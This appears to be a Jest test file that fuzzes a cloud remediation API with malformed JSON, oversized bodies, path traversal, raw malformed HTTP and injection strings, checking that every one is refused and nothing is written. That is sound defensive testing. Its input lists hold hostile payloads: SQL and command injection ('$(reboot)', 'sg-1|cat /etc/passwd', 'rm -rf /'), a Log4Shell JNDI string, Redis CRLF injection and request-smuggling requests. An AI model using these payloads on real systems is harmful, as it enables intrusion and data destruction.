import type { RedisClient } from '../../packages/core/src';
import { startStack, type Stack } from '../../packages/testkit/src';
import { FigureSheet } from './figures';
import { errorBodyProblem, fingerprint, fingerprintDiff, raw, rawSocket, type RawAnswer } from './http';
import { LARGE, filesUnder, redisOf } from './support';

/**
 * Bad input on every endpoint: malformed JSON, wrong types, huge bodies, unknown fields, path
 * traversal and injection strings in ids. Every one is refused with a 4xx and a JSON error body,
 * and refused before anything is written: no job, no Redis key, no snapshot file, no crash.
 */
const sheet = new FigureSheet(__filename);
let stack: Stack;
let redis: RedisClient;

const SG = 'sg-0123456789abcdef0';
const BUCKET = 'chaos-public-bucket';
const finding = (over: Record<string, unknown> = {}) => ({
  id: 'fz-valid',
  handler: 'block-public-ssh',
  provider: 'aws',
  account_id: '123456789012',
  region: 'us-east-1',
  resource_id: SG,
  ...over,
});

interface Case {
  what: string;
  method: string;
  path: string;
  body?: string | Buffer;
  contentType?: string | null;
  headers?: Record<string, string>;
  /** Exact status expected; any 4xx when absent. */
  status?: number;
  /** Expected error code, when it matters. */
  code?: string;
  /** Bull Board's own API: its errors are `{error:{key}}` (its page reads them), not ours. */
  board?: boolean;
}

/** Endpoints that read a body; every one takes JSON. The templates are never sent as they are. */
const BODY_ENDPOINTS: { path: string; template: Record<string, unknown>; limitMb: number }[] = [
  { path: '/api/v1/findings', template: { findings: [finding()] }, limitMb: 5 },
  { path: '/api/v1/remediations', template: { finding_ids: ['fz-valid'], dry_run: true }, limitMb: 1 },
  {
    path: '/api/v1/remediations/handlers/block-public-ssh',
    template: { resource_id: SG, provider: 'aws', dry_run: true },
    limitMb: 1,
  },
  { path: '/api/v1/remediations/batch-20260101-001/rollback', template: { dry_run: true }, limitMb: 1 },
  { path: '/api/v1/emergency-stop', template: { reason: 'chaos' }, limitMb: 1 },
];

const MALFORMED = [
  '{',
  '{"findings":',
  '[1,2',
  'nul',
  "{'a':1}",
  '{}x',
  '{"a":1,}',
  '{"a":01}',
  '{"a":"\\u12"}',
  'NaN',
  'undefined',
  '<xml/>',
  'a=1&b=2',
  '\u0000',
  '\ufeff{"a":1',
  `${'['.repeat(20_000)}`,
  `{"a":${'{"a":'.repeat(5_000)}`,
];

/** Strings that must never pass as a finding id or a resource id (nor reach a key, a path or a shell). */
const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE findings; --',
  '$(reboot)',
  '`id`',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  'sg-1\r\nFLUSHALL\r\n',
  'sg-1\u0000',
  '*',
  'sg-1 OR 1=1',
  'sg-1;ls',
  'sg-1|cat /etc/passwd',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  '__proto__',
  'x'.repeat(300),
  'ｓｇ-0123456789abcdef0',
  'sg-1\u202e',
];

/** Valid resource ids of another kind: right syntax, wrong handler. */
const MISMATCHES: { handler: string; resource_id: string }[] = [
  { handler: 'enforce-imdsv2', resource_id: BUCKET },
  { handler: 'enforce-imdsv2', resource_id: SG },
  { handler: 'block-public-ssh', resource_id: 'i-0123456789abcdef0' },
  { handler: 'block-public-ssh', resource_id: 'aegis:estop' },
  { handler: 'enable-guardduty', resource_id: BUCKET },
  { handler: 'run-patch-baseline', resource_id: SG },
];

const json = (v: unknown) => JSON.stringify(v);

function bodyCases(): Case[] {
  const out: Case[] = [];
  for (const ep of BODY_ENDPOINTS) {
    const post = (what: string, body: string | Buffer, extra: Partial<Case> = {}): void =>
      void out.push({ what: `${ep.path}: ${what}`, method: 'POST', path: ep.path, body, ...extra });
    for (const m of MALFORMED) {
      post(`malformed ${json(m.slice(0, 20))} as JSON`, m, { status: 400, code: 'invalid_json' });
      post(`malformed ${json(m.slice(0, 20))} without a type`, m, { contentType: null, status: 415 });
      post(`malformed ${json(m.slice(0, 20))} as text`, m, { contentType: 'text/plain', status: 415 });
    }
    for (const v of [null, [], 'x', 42, true, {}, [ep.template]]) post(`wrong type ${json(v)}`, json(v));
    for (const [k, v] of Object.entries(ep.template)) {
      for (const wrong of [null, 42, 'x', [], {}, true].filter((w) => json(w) !== json(v) && typeof w !== typeof v))
        post(`${k} = ${json(wrong)}`, json({ ...ep.template, [k]: wrong }));
      const { [k]: _dropped, ...rest } = ep.template;
      post(`without ${k}`, json(rest));
    }
    post('an unknown field', json({ ...ep.template, extra: 1 }));
    post('a __proto__ field', `{"__proto__":{"admin":true},${json(ep.template).slice(1)}`);
    post('a constructor field', json({ ...ep.template, constructor: { prototype: { admin: true } } }));
    const pad = 'x'.repeat(ep.limitMb * 1024 * 1024 + 64 * 1024);
    post(`over ${ep.limitMb} MB`, json({ ...ep.template, pad }), { status: 413, code: 'payload_too_large' });
    post(`over ${ep.limitMb} MB without a type`, pad, { contentType: null, status: 413 });
    post('a charset nobody knows', json(ep.template), { contentType: 'application/json; charset=bogus-8' });
    post('gzip that is not gzip', json(ep.template), { headers: { 'content-encoding': 'gzip' } });
    post('an unknown content encoding', json(ep.template), { headers: { 'content-encoding': 'br2' } });
  }
  return out;
}

function fieldCases(): Case[] {
  const out: Case[] = [];
  const post = (what: string, path: string, body: unknown, extra: Partial<Case> = {}) =>
    out.push({ what: `${path}: ${what}`, method: 'POST', path, body: json(body), ...extra });
  const findingsBad: [string, Record<string, unknown>][] = [
    ['unknown handler', { handler: 'delete-everything' }],
    ['another provider', { provider: 'gcp' }],
    ['numeric account', { account_id: 123456789012 }],
    ['short account', { account_id: '12345' }],
    ['bad region', { region: 'mars-north-1' }],
    ['bad severity', { severity: 'apocalyptic' }],
    ['long title', { title: 'x'.repeat(513) }],
    ['dependencies not a list', { dependencies: 'sg-1' }],
    ['dependency without relation', { dependencies: [{ resource_id: SG }] }],
    ['dependency with an extra field', { dependencies: [{ resource_id: SG, relation: 'x', extra: 1 }] }],
    ['unknown finding field', { extra: 1 }],
  ];
  for (const [what, over] of findingsBad) post(what, '/api/v1/findings', { findings: [finding(over)] });
  post('5001 findings', '/api/v1/findings', {
    findings: Array.from({ length: 5001 }, (_, i) => finding({ id: `fz-${i}` })),
  });
  post('duplicate finding ids', '/api/v1/remediations', { finding_ids: ['fz-a', 'fz-a'], dry_run: true });
  post('10001 finding ids', '/api/v1/remediations', {
    finding_ids: Array.from({ length: 10_001 }, (_, i) => `fz-${i}`),
    dry_run: true,
  });
  post('empty finding ids', '/api/v1/remediations', { finding_ids: [], dry_run: true });
  post('execute without batch id', '/api/v1/remediations', { finding_ids: ['fz-a'], dry_run: false });
  post('a malformed batch id', '/api/v1/remediations', { finding_ids: ['fz-a'], dry_run: false, batch_id: 'b-1' });
  post('an unknown tier', '/api/v1/remediations', { finding_ids: ['fz-a'], dry_run: true, executor_tier: 'T9' });
  post('a change ticket with spaces', '/api/v1/remediations', {
    finding_ids: ['fz-a'],
    dry_run: false,
    batch_id: 'batch-20260101-001',
    change_ticket: 'CHG 1; rm -rf /',
  });
  post('unknown findings', '/api/v1/remediations', { finding_ids: ['fz-unknown'], dry_run: true }, { status: 404 });
  post('unknown batch', '/api/v1/remediations', {
    finding_ids: ['fz-unknown'],
    dry_run: false,
    batch_id: 'batch-20260101-999',
  });
  const single = '/api/v1/remediations/handlers/block-public-ssh';
  post('another provider', single, { resource_id: SG, provider: 'azure', dry_run: true });
  post('a bad region', single, { resource_id: SG, provider: 'aws', region: 'xx', dry_run: true });
  post('a bad account', single, { resource_id: SG, provider: 'aws', account_id: 'abc', dry_run: true });
  post('execute without batch id', single, { resource_id: SG, provider: 'aws', dry_run: false });
  post('execute someone else’s batch', single, {
    resource_id: SG,
    provider: 'aws',
    dry_run: false,
    batch_id: 'batch-20260101-001',
  });
  const rb = '/api/v1/remediations/batch-20260101-001/rollback';
  post('a malformed snapshot id', rb, { snapshot_id: 'snap-x', dry_run: true });
  post('a non-boolean force', rb, { force: 'yes', dry_run: true });
  post('an unknown batch', rb, { dry_run: true }, { status: 404 });
  post('an empty reason', '/api/v1/emergency-stop', { reason: '' });
  post('a 501-character reason', '/api/v1/emergency-stop', { reason: 'x'.repeat(501) });

  for (const s of INJECTIONS) {
    const e = encodeURIComponent(s);
    post(`injected finding id ${json(s.slice(0, 30))}`, '/api/v1/findings', { findings: [finding({ id: s })] });
    post(`injected resource id ${json(s.slice(0, 30))}`, '/api/v1/findings', {
      findings: [finding({ resource_id: s })],
    });
    post(`injected dependency ${json(s.slice(0, 30))}`, '/api/v1/findings', {
      findings: [finding({ dependencies: [{ resource_id: s, relation: 'attached_to' }] })],
    });
    post(`injected finding id ${json(s.slice(0, 30))}`, '/api/v1/remediations', { finding_ids: [s], dry_run: true });
    post(`injected resource id ${json(s.slice(0, 30))}`, single, { resource_id: s, provider: 'aws', dry_run: true });
    post(`injected snapshot id ${json(s.slice(0, 30))}`, rb, { snapshot_id: s, dry_run: true });
    out.push({ what: `GET finding ${json(s.slice(0, 30))}`, method: 'GET', path: `/api/v1/findings/${e}` });
    out.push({ what: `GET batch ${json(s.slice(0, 30))}`, method: 'GET', path: `/api/v1/remediations/${e}` });
    out.push({
      what: `GET snapshots ${json(s.slice(0, 30))}`,
      method: 'GET',
      path: `/api/v1/remediations/${e}/snapshots`,
    });
    post(`rollback of batch ${json(s.slice(0, 30))}`, `/api/v1/remediations/${e}/rollback`, { dry_run: true });
    post(`handler ${json(s.slice(0, 30))}`, `/api/v1/remediations/handlers/${e}`, {
      resource_id: SG,
      provider: 'aws',
      dry_run: true,
    });
  }
  for (const m of MISMATCHES) {
    post(
      `${m.handler} on ${m.resource_id}`,
      '/api/v1/findings',
      { findings: [finding(m)] },
      {
        status: 422,
        code: 'resource_mismatch',
      },
    );
    post(
      `${m.handler} on ${m.resource_id}`,
      `/api/v1/remediations/handlers/${m.handler}`,
      {
        resource_id: m.resource_id,
        provider: 'aws',
        dry_run: true,
      },
      { status: 422, code: 'resource_mismatch' },
    );
  }
  // One mismatch refuses the whole request: the valid finding beside it is not written either.
  post(
    'one mismatch among valid findings',
    '/api/v1/findings',
    {
      findings: [finding({ id: 'fz-ok' }), finding({ id: 'fz-bad', handler: 'enforce-imdsv2', resource_id: BUCKET })],
    },
    { status: 422, code: 'resource_mismatch' },
  );
  return out;
}

function pathCases(): Case[] {
  const get = (path: string, extra: Partial<Case> = {}): Case => ({
    what: `GET ${path}`,
    method: 'GET',
    path,
    ...extra,
  });
  return [
    get('/api/v1/findings/../../etc/passwd'),
    get('/api/v1/findings/..%2F..%2Fetc%2Fpasswd'),
    get('/api/v1/findings/%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
    get('/api/v1/findings/%2e%2e'),
    get('/api/v1/findings/..'),
    get('/api/v1/findings/%ff'),
    get('/api/v1/findings/%'),
    get('/api/v1/findings/%00'),
    get('/api/v1/remediations/..%2F..%2Fetc%2Fpasswd'),
    get('/api/v1/remediations/batch-20260101-001%2F..%2F..%2Fetc%2Fpasswd/snapshots'),
    get('/api/v1/remediations/%2e%2e%2f%2e%2e%2fetc%2fpasswd/snapshots'),
    get('/api/v1/../../../etc/passwd'),
    get('/api/v1/remediations/report?period=../../etc'),
    get('/api/v1/remediations/report?period=7d&period=8d'),
    get('/api/v1/remediations/report?group_by=__proto__'),
    get('/api/v1/remediations/report?period=7d&evil=1'),
    get('/api/v1/remediations/report?period=-1d'),
    get('/api/v1/remediations/batch-20260101-999', { status: 404 }),
    get('/api/v1/findings/fz-never-ingested', { status: 404 }),
    {
      what: 'POST traversal rollback',
      method: 'POST',
      path: '/api/v1/remediations/..%2F..%2Fetc/rollback',
      body: '{"dry_run":true}',
    },
    {
      what: 'POST traversal handler',
      method: 'POST',
      path: '/api/v1/remediations/handlers/..%2F..%2Fetc%2Fpasswd',
      body: json({ resource_id: SG, provider: 'aws', dry_run: true }),
      status: 404,
    },
    {
      what: 'PUT findings',
      method: 'PUT',
      path: '/api/v1/findings',
      body: json({ findings: [finding()] }),
      status: 404,
    },
    {
      what: 'PATCH a batch',
      method: 'PATCH',
      path: '/api/v1/remediations/batch-20260101-001',
      body: '{}',
      status: 404,
    },
    { what: 'DELETE findings', method: 'DELETE', path: '/api/v1/findings/fz-valid', status: 404 },
    ...boardCases(),
  ];
}

/** Bull Board, with the admin token: traversal, injected names and broken bodies; never a valid change. */
function boardCases(): Case[] {
  const b = '/admin/queues';
  const c = (method: string, path: string, body?: string): Case => ({
    what: `${method} ${path}`,
    method,
    path: `${b}${path}`,
    board: true,
    ...(body === undefined ? {} : { body }),
  });
  return [
    c('GET', '/static/..%2f..%2f..%2f..%2fpackage.json'),
    c('GET', '/static/../../../../package.json'),
    c('GET', '/../../etc/passwd'),
    c('GET', '/api/queues/..%2f..%2fetc/x'),
    c('GET', '/api/queues/remediation-t1/..%2f..%2fetc%2fpasswd'),
    c('GET', "/api/queues/remediation-t1/'%20OR%201%3D1"),
    c('GET', '/api/queues?activeQueue=%27&status=%3Cx%3E&page=-1'),
    c('PUT', '/api/queues/..%2f..%2f/pause'),
    c('PUT', '/api/queues/remediation-t1/retry/..%2f..%2f'),
    c('POST', '/api/queues/remediation-t1/add', '{'),
    c('POST', '/api/queues/remediation-t1/add', '{"name":1}'),
    c('POST', '/api/queues/%24(reboot)/add', '{"name":"x","data":{}}'),
  ];
}

/** For Bull Board: a 4xx in JSON that names an error, with no stack trace and no file's content. */
function boardProblem(a: RawAnswer): string | null {
  if (a.failure) return `no answer: ${a.failure}`;
  if (!String(a.headers['content-type'] ?? '').includes('application/json')) return `not JSON: ${a.text.slice(0, 80)}`;
  if (!/"error"/.test(a.text)) return `no error in ${a.text.slice(0, 120)}`;
  if (/\n\s+at |node_modules|root:x:0:0|"devDependencies"/.test(a.text)) return `leaks: ${a.text.slice(0, 200)}`;
  return null;
}

/** The large setting adds seeded random damage to every endpoint's template: truncated JSON and wrong values. */
function randomCases(n: number): Case[] {
  let seed = 11;
  const rnd = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
  const out: Case[] = [];
  for (let i = 0; i < n; i++) {
    const ep = pick(BODY_ENDPOINTS);
    const text = json(ep.template);
    if (rnd() < 0.5) {
      // Any proper prefix of a JSON object is not JSON.
      const cut = 1 + Math.floor(rnd() * (text.length - 1));
      out.push({
        what: `${ep.path}: cut at ${cut}`,
        method: 'POST',
        path: ep.path,
        body: text.slice(0, cut),
        status: 400,
      });
    } else {
      const key = pick(Object.keys(ep.template));
      const value = pick([...INJECTIONS, 12, -1, 1e308, null, [], {}, false]);
      if (json(value) === json(ep.template[key])) continue;
      const body = {
        ...ep.template,
        [key]:
          key === 'findings'
            ? [finding({ [pick(['id', 'resource_id', 'region', 'account_id', 'handler'])]: value })]
            : value,
      };
      if (ep.path.endsWith('/emergency-stop') && typeof value === 'string' && value.length > 0 && value.length <= 500)
        continue;
      out.push({
        what: `${ep.path}: ${key} = ${json(value).slice(0, 30)}`,
        method: 'POST',
        path: ep.path,
        body: json(body),
      });
    }
  }
  return out;
}

async function send(c: Case): Promise<RawAnswer> {
  const headers: Record<string, string> = { authorization: `Bearer ${stack.token}`, ...c.headers };
  if (c.body !== undefined && c.contentType !== null) headers['content-type'] = c.contentType ?? 'application/json';
  return raw(stack, c.method, c.path, { ...(c.body === undefined ? {} : { body: c.body }), headers });
}

beforeAll(async () => {
  stack = await startStack();
  redis = redisOf(stack);
}, 180_000);

afterAll(async () => {
  redis?.disconnect();
  await stack?.stop();
  sheet.flush();
}, 60_000);

it('refuses every bad input with a 4xx and a JSON error, and writes nothing', async () => {
  const cases = [...bodyCases(), ...fieldCases(), ...pathCases(), ...(LARGE ? randomCases(3000) : [])];
  const pid = stack.state().pids['api-gateway'];
  const restarts = stack.state().restarts;
  const keys = await fingerprint(redis);
  const files = filesUnder(stack.snapshotDir);
  const inFlight = (await stack.api('GET', '/api/v1/emergency-stop')).body as { in_flight: unknown };

  const wrong: string[] = [];
  for (const c of cases) {
    const a = await send(c);
    sheet.add('badInputs');
    if (a.status >= 500) sheet.add('answers5xx');
    const problem =
      a.status < 400 || a.status > 499
        ? `answered ${a.status}: ${a.failure ?? a.text.slice(0, 200)}`
        : c.status !== undefined && a.status !== c.status
          ? `answered ${a.status}, expected ${c.status}: ${a.text.slice(0, 200)}`
          : ((c.board ? boardProblem(a) : errorBodyProblem(a)) ??
            (c.code && !a.text.includes(`"code":"${c.code}"`)
              ? `expected code ${c.code}: ${a.text.slice(0, 200)}`
              : null));
    if (problem) wrong.push(`${c.what} → ${problem}`);
  }
  expect(wrong).toEqual([]);

  // Nothing crashed, nothing was enqueued or written.
  expect(stack.state().pids['api-gateway']).toBe(pid);
  expect(stack.state().restarts).toEqual(restarts);
  expect((await stack.api('GET', '/api/v1/emergency-stop')).body).toMatchObject({ in_flight: inFlight.in_flight });
  // The audit trail records refused requests too (by design); nothing else may change.
  expect(fingerprintDiff(keys, await fingerprint(redis)).filter((d) => !/^aegis:audit[:\s]/.test(d))).toEqual([]);
  expect(filesUnder(stack.snapshotDir)).toEqual(files);
  expect(stack.output()).not.toMatch(/unhandled error|UnhandledPromiseRejection|FATAL/i);
}, 300_000);

it('refuses malformed HTTP below the app with a 4xx, and keeps running', async () => {
  // Node's HTTP parser refuses these before express sees them; the server's `clientError` handler
  // still answers with the API's JSON error body.
  const pid = stack.state().pids['api-gateway'];
  const auth = `Authorization: Bearer ${stack.token}\r\n`;
  const requests = [
    'GARBAGE\r\n\r\n',
    'GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n',
    'GET /healthz HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n',
    `GET /api/v1/handlers HTTP/1.1\r\nHost: x\r\n${auth}X-Big: ${'x'.repeat(20_000)}\r\n\r\n`,
    `POST /api/v1/findings HTTP/1.1\r\nHost: x\r\n${auth}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    `POST /api/v1/findings HTTP/1.1\r\nHost: x\r\n${auth}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
  ];
  const statuses: number[] = [];
  const bare: string[] = [];
  for (const r of requests) {
    const a = await rawSocket(stack, r);
    sheet.add('badInputs');
    if (a.status >= 500) sheet.add('answers5xx');
    statuses.push(a.status);
    if (!/\{"error":\{"code":"[a-z_]+","message":"[^"]+"\}\}/.test(a.text))
      bare.push(`${r.slice(0, 30)} -> ${a.text.slice(0, 80)}`);
  }
  expect(statuses.filter((s) => s < 400 || s > 499)).toEqual([]);
  expect(bare).toEqual([]);
  expect(stack.state().pids['api-gateway']).toBe(pid);
  expect((await stack.api('GET', '/healthz')).status).toBe(200);
});

it('keeps every must-be-0 figure at 0', () => {
  expect(sheet.nonZero()).toEqual([]);
});
